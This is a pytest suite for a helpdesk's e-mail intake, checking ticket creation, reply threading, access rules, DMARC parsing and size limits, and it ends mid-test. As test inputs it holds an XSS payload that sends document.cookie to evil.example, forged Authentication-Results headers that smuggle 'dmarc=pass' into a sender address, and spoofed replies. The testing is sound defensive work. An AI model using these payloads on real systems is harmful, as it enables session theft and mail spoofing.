"""E-mail in against a real dovecot: what a mail becomes (a ticket, a reply, nothing) and who it may touch."""
from __future__ import annotations

from email.header import Header
from email.message import EmailMessage

import pytest
from sqlalchemy import select

from pulse_live import db
from pulse_live.markdown import to_html
from pulse_live.models import Attachment, MailOutbox, TeamMember, User
from pulse_live.services import chatter, mailboxes, tickets
from tests.factories import load_ticket, queue_ids

from .conftest import email_tickets, entries, imported, mail


async def _close(anna, ticket_id: int):
    from pulse_live.models import ResolutionCode
    async with db.session() as s:
        code = (await s.execute(select(ResolutionCode.id).where(ResolutionCode.name == 'Fixed'))).scalar_one()
    t = await load_ticket(ticket_id)
    t = await tickets.change_status(actor=anna, ticket_id=t.id, expected_version=t.version, status='resolved',
                                    resolution_code_id=code, resolution_text='Fixed it')
    return await tickets.change_status(actor=anna, ticket_id=t.id, expected_version=t.version, status='closed')


async def _outgoing_message_id(people, ticket_id: int) -> str:
    """A staff reply goes out to the (offline) customer: the Message-ID we sent, as their client will quote it."""
    await chatter.post_message(actor=people.users['anna@pulse.demo'], ticket_id=ticket_id,
                               body='Could you restart the client?')
    async with db.session() as s:
        return (await s.execute(select(MailOutbox.message_id).where(MailOutbox.ticket_id == ticket_id)
                                .order_by(MailOutbox.id.desc()).limit(1))).scalar_one()


async def test_a_new_mail_becomes_a_ticket_of_its_sender_in_the_mailbox_queue(people, box):
    await box.deliver(mail(subject='VPN down', body='The VPN drops every five minutes.\n\n-- \nCarl\nACME Finance'))
    await box.import_now()
    [ticket] = await email_tickets()
    assert ticket.title == 'VPN down'
    assert ticket.customer_id == people.users['carl@acme.demo'].id
    assert ticket.organisation_id == people.orgs['acme']
    assert ticket.queue_id == (await queue_ids())['2nd level']
    assert 'The VPN drops every five minutes.' in ticket.description
    assert 'ACME Finance' not in ticket.description  # the signature is trimmed
    [record] = await imported(box.id)
    assert (record.outcome, record.ticket_id) == ('ticket', ticket.id)
    async with db.session() as s:
        [original] = (await s.execute(select(Attachment).where(Attachment.ticket_id == ticket.id))).scalars()
    assert original.filename.endswith('.eml') and original.is_internal  # the whole mail, for staff


async def test_a_reply_by_in_reply_to_is_a_chatter_entry_without_the_quoted_history(people, box):
    carl = people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=people.users['anna@pulse.demo'], title='Printer', customer_id=carl.id)
    sent = await _outgoing_message_id(people, ticket.id)
    body = ('It works again, thanks!\n\nOn Tue, 1 Dec 2026 at 10:00, Pulse Live <helpdesk@pulse.local> wrote:\n'
            '> Could you restart the client?\n> Anna')
    await box.deliver(mail(subject=f'Re: [{ticket.reference}] Printer', body=body,
                           headers={'In-Reply-To': sent, 'References': sent}))
    await box.import_now()
    assert await email_tickets() == []
    last = (await entries(ticket.id))[-1]
    assert last.actor_id == carl.id and not last.is_internal
    assert last.body == 'It works again, thanks!'
    assert (await imported(box.id))[0].outcome == 'reply'


async def test_a_customers_mail_reply_shows_them_their_message_without_the_staff_only_original(people, box):
    """The original of a mail reply is kept on its chatter entry as a staff-only file: the customer's portal listed
    its name, size and id under their message (a download was refused) before; the agents still see it."""
    from pulse_live.queries.tickets import ticket_events
    carl, anna = people.users['carl@acme.demo'], people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Printer', customer_id=carl.id)
    sent = await _outgoing_message_id(people, ticket.id)
    await box.deliver(mail(subject=f'Re: [{ticket.reference}] Printer', body='Works now.',
                           headers={'In-Reply-To': sent, 'References': sent}))
    await box.import_now()
    staff_entries, _ = await ticket_events(anna, ticket.id)
    customer_entries, _ = await ticket_events(carl, ticket.id)
    [staff_reply] = [e for e in staff_entries if e.body == 'Works now.']
    [customer_reply] = [e for e in customer_entries if e.body == 'Works now.']
    assert [a.filename.endswith('.eml') and a.is_internal for a in staff_reply.attachments] == [True]
    assert customer_reply.attachments == []


async def test_a_reference_in_the_subject_attaches_only_when_the_sender_may_see_that_ticket(people, box):
    carl, eva = people.users['carl@acme.demo'], people.users['eva@acme.demo']
    ticket = await tickets.create_ticket(actor=people.users['anna@pulse.demo'], title='Eva’s laptop',
                                         customer_id=eva.id)
    before = len(await entries(ticket.id))
    tom = 'Tom Baker <tom@globex.demo>'
    await box.deliver(mail(sender=tom, subject=f'About {ticket.reference}', body='Let me in.'),
                      mail(sender='Carl Jensen <carl@acme.demo>', subject=f'Re: {ticket.reference}',
                           body='Carl (organisation admin) here: same on my side.'))
    await box.import_now()
    after = await entries(ticket.id)
    assert [e.actor_id for e in after[before:]] == [carl.id]  # Carl may see every ACME request; Tom none
    [toms] = await email_tickets()
    assert toms.customer_id == people.users['tom@globex.demo'].id and toms.organisation_id == people.orgs['globex']
    assert (await load_ticket(ticket.id)).customer_id == eva.id


async def test_a_forged_in_reply_to_never_attaches_to_another_organisations_ticket(people, box):
    carl = people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=people.users['anna@pulse.demo'], title='Payroll export',
                                         customer_id=carl.id)
    sent = await _outgoing_message_id(people, ticket.id)
    count = len(await entries(ticket.id))
    await box.deliver(mail(sender='Tom Baker <tom@globex.demo>', subject=f'Re: [{ticket.reference}] Payroll export',
                           body='Please send me the export.',
                           headers={'In-Reply-To': sent, 'References': f'<ticket-{ticket.id}@pulse-live> {sent}'}))
    await box.import_now()
    assert len(await entries(ticket.id)) == count
    stored = await load_ticket(ticket.id)
    assert stored.customer_id == carl.id
    [new] = await email_tickets()
    assert new.customer_id == people.users['tom@globex.demo'].id


async def test_html_mail_with_script_becomes_safe_text(people, box):
    html = ('<html><head><script>alert("head")</script></head><body><p>Hello <b>team</b>,</p>'
            '<script>document.location="https://evil.example/?c="+document.cookie</script>'
            '<img src=x onerror=alert(1)><p>see <a href="https://acme.demo/log">the log</a></p></body></html>')
    message = EmailMessage()
    message['From'], message['To'], message['Subject'] = 'carl@acme.demo', 'support@pulse.demo', 'HTML'
    message['Message-ID'] = '<html-1@acme.demo>'
    message.set_content(html, subtype='html')
    html_only = message.as_bytes()
    await box.deliver(html_only)
    await box.import_now()
    [ticket] = await email_tickets()
    assert 'Hello **team**' in ticket.description
    assert 'the log' in ticket.description
    for bad in ('<script', 'alert(', 'document.cookie', 'onerror'):
        assert bad not in ticket.description
    rendered = to_html(ticket.description)
    assert '<script' not in rendered and 'onerror' not in rendered


def test_a_body_of_unclosed_script_tags_is_read_at_once():
    """A mail of 320 KB of ``<script>`` never closed: reading it took about a minute (a regex that stripped scripts
    scanned to the end from each one), holding the interpreter lock — every page of the process stood still."""
    import time

    from pulse_live.services.mail_intake import parse_mail
    message = EmailMessage()
    message['From'], message['To'], message['Subject'] = 'x@evil.example', 'support@pulse.demo', 'hello'
    message.set_content('<p>Hello</p>' + '<script>' * 40000, subtype='html')
    started = time.process_time()
    parsed = parse_mail(message.as_bytes())
    assert time.process_time() - started < 5  # was ~60 s of CPU
    assert 'Hello' in parsed.body and '<script' not in parsed.body


async def test_iso_8859_1_body_and_encoded_word_subject_are_decoded(people, box):
    subject = Header('Drucker im 3. Stock: Grüße aus Zürich', 'iso-8859-1').encode()
    raw = mail(subject='placeholder-subject', body='Der Drucker druckt nur noch Kästchen. Grüße, Carl',
               charset='iso-8859-1')
    raw = raw.replace(b'placeholder-subject', subject.encode())
    assert b'=?iso-8859-1?' in raw
    await box.deliver(raw)
    await box.import_now()
    [ticket] = await email_tickets()
    assert ticket.title == 'Drucker im 3. Stock: Grüße aus Zürich'
    assert 'Kästchen' in ticket.description


async def test_attachments_are_stored_like_uploads(people, box):
    png = b'\x89PNG\r\n\x1a\n' + b'0' * 100
    await box.deliver(mail(attachments=[('screen.png', 'image/png', png), ('log.txt', 'text/plain', b'error 42')]))
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        files = {a.filename: (a.size, a.is_internal) for a in (await s.execute(
            select(Attachment).where(Attachment.ticket_id == ticket.id))).scalars()}
    assert files['screen.png'] == (len(png), False) and files['log.txt'] == (8, False)


async def test_an_oversized_mail_is_bounced_politely_and_kept_for_the_admin(people, box):
    from pulse_live.models import FailedImport
    from pulse_live.queries import mail_intake as intake_queries
    big = bytes(range(256)) * (30 * 1024 * 1024 // 256)  # a 30 MB attachment
    await box.deliver(mail(subject='Huge log', attachments=[('huge.log', 'application/octet-stream', big)]))
    await box.import_now()
    assert await email_tickets() == []
    async with db.session() as s:
        [failed] = (await s.execute(select(FailedImport))).scalars()
        [bounce] = (await s.execute(select(MailOutbox).where(MailOutbox.to_addr == 'carl@acme.demo'))).scalars()
    assert failed.sender == 'carl@acme.demo' and 'Too large' in failed.error and failed.size > 30 * 1024 * 1024
    assert 'could not accept' in bounce.body_text and 'Huge log' in bounce.subject
    rows = await intake_queries.failed_imports(people.users['admin@pulse.demo'])
    assert [r.subject for r in rows] == ['Huge log']
    # nothing lost: after raising the limit an admin retries it and it becomes a ticket
    import os

    from pulse_live.config import reset_settings
    from pulse_live.services import mail_intake
    os.environ['PULSE_MAIL_INTAKE_MAX_BYTES'] = str(60 * 1024 * 1024)
    os.environ['PULSE_MAX_UPLOAD_BYTES'] = str(40 * 1024 * 1024)
    reset_settings()
    try:
        outcome = await mail_intake.retry_failed(actor=people.users['admin@pulse.demo'], failed_id=failed.id)
    finally:
        del os.environ['PULSE_MAIL_INTAKE_MAX_BYTES'], os.environ['PULSE_MAX_UPLOAD_BYTES']
        reset_settings()
    assert outcome.outcome == 'ticket'
    assert [t.title for t in await email_tickets()] == ['Huge log']
    assert await intake_queries.failed_imports(people.users['admin@pulse.demo']) == []


async def test_auto_replies_and_bounces_never_become_tickets_or_reopen_one(people, box):
    carl = people.users['carl@acme.demo']
    anna = people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Closed one', customer_id=carl.id)
    sent = await _outgoing_message_id(people, ticket.id)
    ticket = await _close(anna, ticket.id)
    thread = {'In-Reply-To': sent, 'References': sent}
    await box.deliver(
        mail(subject='Out of office', body='I am away.', headers={**thread, 'Auto-Submitted': 'auto-replied'}),
        mail(subject='Newsletter', headers={'Precedence': 'bulk'}),
        mail(sender='MAILER-DAEMON <mailer-daemon@acme.demo>', subject='Undelivered',
             headers={'Return-Path': '<>'}),
        mail(sender='Pulse Live <helpdesk@pulse.local>', subject=f'[{ticket.reference}] Closed one',
             message_id='<abc@pulse-live>'),
    )
    await box.import_now()
    assert await email_tickets() == []
    assert (await load_ticket(ticket.id)).status == 'closed'
    assert [r.outcome for r in await imported(box.id)] == ['loop'] * 4
    async with db.session() as s:  # and nobody is answered
        assert (await s.execute(select(MailOutbox).where(MailOutbox.kind == 'account'))).first() is None


async def test_the_same_mail_twice_makes_one_ticket(people, box):
    raw = mail(subject='Twice')
    await box.deliver(raw, raw)
    await box.import_now()
    assert len(await email_tickets()) == 1
    assert [r.outcome for r in await imported(box.id)] == ['ticket', 'duplicate']


async def test_mails_without_message_id_are_deduplicated_by_their_headers(people, box):
    raw = mail(subject='No id', message_id=None)
    other = mail(subject='No id either', message_id=None)
    await box.deliver(raw, raw, other)
    await box.import_now()
    assert sorted(t.title for t in await email_tickets()) == ['No id', 'No id either']


async def test_a_reply_from_someone_on_cc_attaches_and_joins_the_team(people, box):
    eva = people.users['eva@acme.demo']
    first = mail(subject='Shared drive', body='We both cannot reach it.', message_id='<first@acme.demo>',
                 headers={'Cc': 'Eva Lindqvist <eva@acme.demo>, someone@elsewhere.example'})
    await box.deliver(first)
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        team = set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket.id))).scalars())
    assert eva.id in team
    await box.deliver(mail(sender='Eva Lindqvist <eva@acme.demo>', subject='Re: Shared drive',
                           body='Still down for me.', headers={'In-Reply-To': '<first@acme.demo>'}))
    await box.import_now()
    assert len(await email_tickets()) == 1
    last = (await entries(ticket.id))[-1]
    assert last.actor_id == eva.id and last.body == 'Still down for me.'
    assert (await load_ticket(ticket.id)).customer_id == people.users['carl@acme.demo'].id


GMAIL_SPF = ('spf=pass (google.com: domain of {who} designates 192.0.2.1 as permitted sender) '
             'smtp.mailfrom={who};')


@pytest.mark.parametrize('header, failed', [
    ('mx.google.com; ' + GMAIL_SPF.format(who='bounce@evil.example') + ' dmarc=fail (p=NONE) header.from=acme.demo',
     True),
    # what a forger chooses (the envelope sender) written into the server's header before its dmarc result
    ('mx.google.com; ' + GMAIL_SPF.format(who='"x;dmarc=pass"@evil.example') + ' dmarc=fail header.from=acme.demo',
     True),
    ('mx.google.com; ' + GMAIL_SPF.format(who='=?us-ascii?q?x=3Bdmarc=3Dpass?=@evil.example')
     + ' dmarc=fail header.from=acme.demo', True),
    ('mx.example; dmarc=pass header.from=evil.example; dmarc=fail header.from=acme.demo', True),
    ('mx.example; (checked) dmarc=fail header.from=acme.demo', True),
    ('dmarc=fail action=none header.from=acme.demo; compauth=fail', True),  # no server name (Microsoft)
    ('spf=fail (sender IP is 192.0.2.1) smtp.mailfrom=evil.example; dkim=none header.d=none;dmarc=fail action=none '
     'header.from=acme.demo;compauth=fail reason=000', True),
    ('mx.example; DMARC=FAIL header.from=acme.demo', True),
    ('mx.example; spf=pass (x;dmarc=fail) smtp.mailfrom=a@b.example; dmarc=pass', False),  # in a comment only
    ('mx.example; dmarc=pass header.from=acme.demo', False),
    ('mx.example; dmarc=none', False),
])
def test_a_dmarc_failure_is_read_from_the_server_s_own_words_only(header, failed):
    """Comments and quoted strings (where the sender's chosen address appears) are dropped and nothing is decoded
    before the results are read: an envelope sender "x;dmarc=pass"@… had made a forged mail count as passed."""
    from email import policy
    from email.parser import BytesParser

    from pulse_live.services.mail_intake import unverified_sender
    raw = (f'Authentication-Results: {header}\r\n'.encode() + b'Authentication-Results: forger.example; dmarc=pass\r\n'
           + mail(subject='Hello'))
    message = BytesParser(policy=policy.default).parsebytes(raw)
    assert bool(unverified_sender(message)) is failed


async def test_with_the_server_s_name_set_each_of_its_results_counts_and_no_other(people, monkeypatch):
    from email import policy
    from email.parser import BytesParser

    from pulse_live.config import reset_settings
    from pulse_live.services.mail_intake import unverified_sender
    monkeypatch.setenv('PULSE_MAIL_INTAKE_AUTHSERV_ID', 'mx.pulse.demo')
    reset_settings()

    def verdict(*headers: str) -> bool:
        raw = b''.join(f'Authentication-Results: {h}\r\n'.encode() for h in headers) + mail(subject='Hello')
        return bool(unverified_sender(BytesParser(policy=policy.default).parsebytes(raw)))
    assert verdict('mx.pulse.demo; spf=pass smtp.mailfrom=a@acme.demo', 'mx.pulse.demo; dmarc=fail')  # a 2nd filter
    assert not verdict('relay.example; dmarc=fail', 'mx.pulse.demo; dmarc=pass')  # not our server's words
    assert not verdict('mx.pulse.demo; spf=pass smtp.mailfrom=a@acme.demo')


async def test_a_forged_from_that_failed_dmarc_is_nobody_s_reply_and_opens_no_account(people, box, monkeypatch):
    """Anybody can write "From: carl@acme.demo". When the receiving server says the address failed DMARC, the mail
    is neither Carl's reply (with a Cc that joined an outsider to the ticket and made them a customer of ACME, who
    could then set a password) nor his request: a new ticket that needs triage, saying why."""
    carl = people.users['carl@acme.demo']
    genuine = mail(subject='Printer', message_id='<printer-1@acme.demo>')
    await box.deliver(genuine)
    await box.import_now()
    [ticket] = await email_tickets()
    entries_before = [e.id for e in await entries(ticket.id)]
    async with db.session() as s:
        team_before = set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket.id)
                                           )).scalars())
    verdict = b'Authentication-Results: mx.pulse.demo; spf=softfail smtp.mailfrom=evil.example; dmarc=fail ' \
              b'(p=reject) header.from=acme.demo\r\n'
    forged = verdict + mail(subject='Re: Printer', body='Please add my colleague.',
                            headers={'In-Reply-To': '<printer-1@acme.demo>', 'Cc': 'spy@evil.example',
                                     'Authentication-Results': 'forger.example; dmarc=pass'})
    await box.deliver(forged)
    await box.import_now()
    assert [e.id for e in await entries(ticket.id)] == entries_before  # nothing was added to Carl's ticket
    [_, triage] = await email_tickets()
    assert triage.customer_id is None and 'failed DMARC' in triage.description
    await box.deliver(mail(sender='spy@evil.example', subject='Re: Printer', body='me too',
                           headers={'In-Reply-To': '<printer-1@acme.demo>'}))
    await box.import_now()
    async with db.session() as s:
        assert (await s.execute(select(User).where(User.email == 'spy@evil.example'))).scalar() is None
        team = set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket.id))).scalars())
    assert team == team_before and carl.id in team  # no outsider joined
    # a result further down (added by whoever sent it) counts for nothing; a pass on top is taken as before
    passed = b'Authentication-Results: mx.pulse.demo; dmarc=pass header.from=acme.demo\r\n' + mail(
        subject='Re: Printer', body='It prints again.', headers={'In-Reply-To': '<printer-1@acme.demo>',
                                                              'Authentication-Results': 'x.example; dmarc=fail'})
    await box.deliver(passed)
    await box.import_now()
    assert (await entries(ticket.id))[-1].body == 'It prints again.'
    # the setting "ignore" takes a failed mail like any other
    from pulse_live.config import reset_settings
    monkeypatch.setenv('PULSE_MAIL_INTAKE_DMARC_FAIL', 'ignore')
    reset_settings()
    await box.deliver(verdict + mail(subject='Re: Printer', body='Ignored verdict.',
                                     headers={'In-Reply-To': '<printer-1@acme.demo>'}))
    await box.import_now()
    assert (await entries(ticket.id))[-1].body == 'Ignored verdict.'


async def test_a_bcc_or_unknown_address_never_replaces_the_customer(people, box):
    await box.deliver(mail(subject='Keyboard', message_id='<kb@acme.demo>'))
    await box.import_now()
    [ticket] = await email_tickets()
    await box.deliver(mail(sender='Mallory <mallory@evil.example>', subject='Re: Keyboard',
                           headers={'In-Reply-To': '<kb@acme.demo>'}, body='I am the customer now.'))
    await box.import_now()
    stored = await load_ticket(ticket.id)
    assert stored.customer_id == people.users['carl@acme.demo'].id
    assert all('customer now' not in e.body for e in await entries(ticket.id))
    triage = (await email_tickets())[-1]
    assert triage.customer_id is None and 'Needs triage' in triage.description


async def test_an_unknown_sender_of_a_known_domain_becomes_a_customer_there(people, box):
    admin = people.users['admin@pulse.demo']
    await mailboxes.set_mail_domains(actor=admin, organisation_id=people.orgs['acme'], domains=['acme.demo'])
    await box.deliver(mail(sender='Nina New <nina@acme.demo>', subject='Hello'))
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        nina = (await s.execute(select(User).where(User.email == 'nina@acme.demo'))).scalar_one()
    assert (nina.role, nina.organisation_id, nina.display_name) == ('customer', people.orgs['acme'], 'Nina New')
    assert ticket.customer_id == nina.id


async def test_a_reply_to_a_closed_ticket_reopens_it_or_opens_a_linked_one(people, box, monkeypatch):
    from pulse_live.config import reset_settings
    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']

    async def closed(title: str):
        t = await tickets.create_ticket(actor=anna, title=title, customer_id=carl.id)
        return await _close(anna, t.id)
    one = await closed('Reopen me')
    await box.deliver(mail(subject=f'Re: [{one.reference}] Reopen me', body='It is broken again.'))
    await box.import_now()
    assert (await load_ticket(one.id)).status == 'open'
    assert (await entries(one.id))[-1].body == 'It is broken again.'

    monkeypatch.setenv('PULSE_MAIL_INTAKE_CLOSED_REPLY', 'new')
    reset_settings()
    two = await closed('Leave me closed')
    await box.deliver(mail(subject=f'Re: [{two.reference}] Leave me closed', body='Again!'))
    await box.import_now()
    assert (await load_ticket(two.id)).status == 'closed'
    [linked] = await email_tickets()
    assert two.reference in linked.description and linked.customer_id == carl.id


async def test_a_flood_from_one_sender_is_recorded_not_imported(people, box, monkeypatch):
    from pulse_live.config import reset_settings
    monkeypatch.setenv('PULSE_MAIL_INTAKE_FLOOD_PER_MINUTE', '3')
    reset_settings()
    await box.deliver(*[mail(subject=f'Spam {i}') for i in range(5)])
    await box.import_now()
    assert len(await email_tickets()) == 3
    assert [r.outcome for r in await imported(box.id)] == ['ticket'] * 3 + ['flood'] * 2


async def test_the_password_is_stored_encrypted(people, box):
    from pulse_live.models import Mailbox
    async with db.session() as s:
        stored = (await s.get(Mailbox, box.id)).secret_encrypted
    assert stored and 'secret' not in stored
    assert mailboxes.decrypt_secret(stored) == 'secret'


async def test_mail_we_send_is_marked_automated_and_its_reply_threads_back(people, box):
    """What a mail client does with our notification: Reply keeps the subject (with the reference), puts our
    Message-ID into In-Reply-To and appends it to References; the answer lands on the ticket."""
    from pulse_live.notify import compose
    carl = people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=people.users['anna@pulse.demo'], title='Monitor', customer_id=carl.id)
    sent = compose.build(to_addr=carl.email, reference=ticket.reference, title='Monitor', ticket_id=ticket.id,
                         kind='update', items=[], message_id='<n1@pulse-live>')
    assert sent['Auto-Submitted'] == 'auto-generated' and sent['X-Auto-Response-Suppress'] == 'All'
    assert ticket.reference in sent['Subject']
    assert sent['Auto-Submitted'] and compose.build(to_addr=carl.email, reference='', title='', ticket_id=None,
                                                    kind='account', items=[], message_id='<a1@pulse-live>',
                                                    subject='Set your password', text='…')['Auto-Submitted']
    await box.deliver(mail(subject=f'Re: {sent["Subject"]}', body='Thanks, all good now.',
                           headers={'In-Reply-To': sent['Message-ID'],
                                    'References': f'{sent["References"]} {sent["Message-ID"]}'}))
    await box.import_now()
    assert (await entries(ticket.id))[-1].body == 'Thanks, all good now.'
    assert await email_tickets() == []


async def test_with_the_triage_setting_unknown_senders_are_never_made_customers(people, box, monkeypatch):
    from pulse_live.config import reset_settings
    await mailboxes.set_mail_domains(actor=people.users['admin@pulse.demo'], organisation_id=people.orgs['acme'],
                                     domains=['acme.demo'])
    monkeypatch.setenv('PULSE_MAIL_INTAKE_UNKNOWN_SENDER', 'triage')
    reset_settings()
    await box.deliver(mail(sender='Nina New <nina@acme.demo>', subject='Hello'))
    await box.import_now()
    [ticket] = await email_tickets()
    assert ticket.customer_id is None
    assert 'Needs triage' in ticket.description and 'nina@acme.demo' in ticket.description
    async with db.session() as s:
        assert (await s.execute(select(User).where(User.email == 'nina@acme.demo'))).first() is None


async def test_a_reply_from_an_unknown_address_on_cc_attaches_and_joins_the_team_as_a_contact(people, box):
    carl = people.users['carl@acme.demo']
    await box.deliver(mail(subject='Printer jam', body='Olga from our partner sees it too.',
                           message_id='<jam@acme.demo>', headers={'Cc': 'Olga Outside <olga@partner.example>'}))
    await box.import_now()
    [ticket] = await email_tickets()
    await box.deliver(mail(sender='Olga Outside <Olga@partner.example>', subject='Re: Printer jam',
                           body='Same here on floor 3.', headers={'In-Reply-To': '<jam@acme.demo>'}))
    await box.import_now()
    assert len(await email_tickets()) == 1  # never a new ticket
    async with db.session() as s:
        olga = (await s.execute(select(User).where(User.email == 'olga@partner.example'))).scalar_one()
        team = set((await s.execute(select(TeamMember.user_id).where(TeamMember.ticket_id == ticket.id))).scalars())
    assert (olga.role, olga.organisation_id, olga.display_name) == ('customer', people.orgs['acme'], 'Olga Outside')
    assert olga.id in team
    last = (await entries(ticket.id))[-1]
    assert last.actor_id == olga.id and last.body == 'Same here on floor 3.' and not last.is_internal
    assert (await load_ticket(ticket.id)).customer_id == carl.id  # the customer stays


async def test_an_unknown_address_not_on_cc_gets_no_account_and_no_access(people, box):
    await box.deliver(mail(subject='Printer jam', message_id='<jam2@acme.demo>',
                           headers={'Cc': 'Olga Outside <olga@partner.example>'}))
    await box.import_now()
    [ticket] = await email_tickets()
    await box.deliver(mail(sender='Eve <eve@partner.example>', subject='Re: Printer jam', body='Let me in.',
                           headers={'In-Reply-To': '<jam2@acme.demo>', 'Cc': 'olga@partner.example'}))
    await box.import_now()
    assert all(e.body != 'Let me in.' for e in await entries(ticket.id))
    async with db.session() as s:
        assert (await s.execute(select(User).where(User.email.like('%partner.example')))).first() is None
    triage = (await email_tickets())[-1]
    assert triage.id != ticket.id and triage.customer_id is None


async def test_an_unknown_sender_needs_triage_in_the_work_list_unassigned_in_the_mailbox_queue(people, box):
    from pulse_live.queries import queues as work
    anna = people.users['anna@pulse.demo']
    await box.deliver(mail(sender='Stranger <who@nowhere.example>', subject='Who handles this?'),
                      mail(subject='A known customer'))
    await box.import_now()
    by_title = {t.title: t for t in await email_tickets()}  # (imported side by side on PostgreSQL: any order)
    stranger, known = by_title['Who handles this?'], by_title['A known customer']
    listed = await work.open_tickets(anna, work.WorkFilters(triage=True))
    assert [r.reference for r in listed.rows] == [stranger.reference]
    [row] = listed.rows
    assert row.needs_triage and row.assignee_id is None and row.queue_id == (await queue_ids())['2nd level']
    everything = {r.reference: r.needs_triage for r in (await work.open_tickets(anna)).rows}
    assert everything[stranger.reference] and not everything[known.reference]
    # an agent sets the customer: no longer needs triage
    t = await load_ticket(stranger.id)
    await tickets.update_ticket(actor=anna, ticket_id=t.id, expected_version=t.version,
                                changes={'customer_id': people.users['carl@acme.demo'].id})
    assert (await work.open_tickets(anna, work.WorkFilters(triage=True))).rows == []


async def test_the_original_of_an_imported_mail_is_for_staff_only(people, box):
    from pulse_live.queries.tickets import attachment_for_download
    raw = mail(subject='Keep the original', message_id='<orig@acme.demo>')
    await box.deliver(raw)
    await box.import_now()
    [ticket] = await email_tickets()
    async with db.session() as s:
        original = (await s.execute(select(Attachment).where(Attachment.ticket_id == ticket.id,
                                                             Attachment.content_type == 'message/rfc822'))).scalar_one()
    assert original.is_internal
    staff = await attachment_for_download(people.users['anna@pulse.demo'], original.id)
    assert staff is not None
    from pulse_live import storage
    assert b'Message-ID: <orig@acme.demo>' in storage.path_of(staff.sha256).read_bytes()  # the whole mail as it came
    assert await attachment_for_download(people.users['carl@acme.demo'], original.id) is None


# --- the audit of issue 13 ------------------------------------------------------------------------------------------

async def _kept_too_large(people, box, monkeypatch, subject: str):
    """A mail over the size limit, kept on the admin page; the limit raised again afterwards."""
    from pulse_live.config import reset_settings
    from pulse_live.queries import mail_intake as intake_queries
    monkeypatch.setenv('PULSE_MAIL_INTAKE_MAX_BYTES', '2000')
    reset_settings()
    await box.deliver(mail(subject=subject, body='x' * 5000))
    await box.import_now()
    monkeypatch.setenv('PULSE_MAIL_INTAKE_MAX_BYTES', str(10 ** 7))
    reset_settings()
    [row] = await intake_queries.failed_imports(people.users['admin@pulse.demo'])
    return row


async def test_a_retry_never_loses_the_mail_it_stays_listed_until_imported(people, box, monkeypatch):
    """The kept mail was marked "retried" before its import: an import failing with an error (the planner, the
    database, the store) left it on no list, neither a ticket nor on the admin page, and impossible to discard."""
    from pulse_live.config import reset_settings
    from pulse_live.models import FailedImport
    from pulse_live.notify import planner
    from pulse_live.queries import mail_intake as intake_queries
    from pulse_live.services import mail_intake
    admin = people.users['admin@pulse.demo']
    row = await _kept_too_large(people, box, monkeypatch, 'Kept mail')

    async def broken_plan(*args, **kwargs):
        raise RuntimeError('the database went away during the retry')
    real_plan = planner.plan
    monkeypatch.setattr(planner, 'plan', broken_plan)
    outcome = await mail_intake.retry_failed(actor=admin, failed_id=row.id)
    assert outcome.outcome == 'failed' and 'went away' in outcome.detail
    [still] = await intake_queries.failed_imports(admin)
    assert (still.id, still.subject) == (row.id, 'Kept mail') and 'went away' in still.error
    assert await email_tickets() == []
    # refused again (still too large): the same row, with the new error; the sender is not answered a second time
    monkeypatch.setattr(planner, 'plan', real_plan)
    monkeypatch.setenv('PULSE_MAIL_INTAKE_MAX_BYTES', '1500')
    reset_settings()
    outcome = await mail_intake.retry_failed(actor=admin, failed_id=row.id)
    assert outcome.outcome == 'failed'
    [still] = await intake_queries.failed_imports(admin)
    assert still.id == row.id and still.error.startswith('Retried: Too large')
    async with db.session() as s:
        assert len((await s.execute(select(FailedImport))).scalars().all()) == 1
        assert len((await s.execute(select(MailOutbox).where(MailOutbox.kind == 'account'))).scalars().all()) == 1
    # and once it goes in, it leaves the list with its ticket
    monkeypatch.setenv('PULSE_MAIL_INTAKE_MAX_BYTES', str(10 ** 7))
    reset_settings()
    outcome = await mail_intake.retry_failed(actor=admin, failed_id=row.id)
    assert outcome.outcome == 'ticket'
    assert [t.title for t in await email_tickets()] == ['Kept mail']
    assert await intake_queries.failed_imports(admin) == []


async def test_a_kept_mail_whose_mailbox_was_removed_stays_listed_to_be_discarded(people, box, monkeypatch):
    from pulse_live.errors import ValidationError
    from pulse_live.queries import mail_intake as intake_queries
    from pulse_live.services import mail_intake
    admin = people.users['admin@pulse.demo']
    row = await _kept_too_large(people, box, monkeypatch, 'Orphan')
    await mailboxes.delete_mailbox(actor=admin, mailbox_id=box.id)
    with pytest.raises(ValidationError, match='discard it'):
        await mail_intake.retry_failed(actor=admin, failed_id=row.id)
    [still] = await intake_queries.failed_imports(admin)
    assert (still.id, still.mailbox_name) == (row.id, '(removed)')
    await mail_intake.discard_failed(actor=admin, failed_id=row.id)
    assert await intake_queries.failed_imports(admin) == []


async def test_an_oversized_mail_that_failed_dmarc_is_kept_but_never_bounced(people, box, monkeypatch):
    """A bounce to a forged From lands at somebody who never wrote (backscatter)."""
    from pulse_live.config import reset_settings
    from pulse_live.queries import mail_intake as intake_queries
    monkeypatch.setenv('PULSE_MAIL_INTAKE_MAX_BYTES', '2000')
    reset_settings()
    forged = b'Authentication-Results: mx.pulse.demo; dmarc=fail header.from=victim.example\r\n' + mail(
        sender='Victim <victim@victim.example>', subject='Cheap pills', body='x' * 5000)
    await box.deliver(forged, mail(subject='Genuine and big', body='y' * 5000))
    await box.import_now()
    async with db.session() as s:
        sent_to = [o.to_addr for o in (await s.execute(select(MailOutbox))).scalars()]
    assert sent_to == ['carl@acme.demo']  # the verified sender is answered, the forged one is not
    rows = await intake_queries.failed_imports(people.users['admin@pulse.demo'])
    assert sorted(r.subject for r in rows) == ['Cheap pills', 'Genuine and big']


async def test_attachments_over_the_upload_limits_per_file_or_in_number_are_refused_and_kept(people, box, monkeypatch):
    """The same limits as uploads: a file over PULSE_MAX_UPLOAD_BYTES, more files than PULSE_MAX_UPLOAD_FILES."""
    from pulse_live.config import reset_settings
    from pulse_live.queries import mail_intake as intake_queries
    monkeypatch.setenv('PULSE_MAX_UPLOAD_BYTES', '2000')
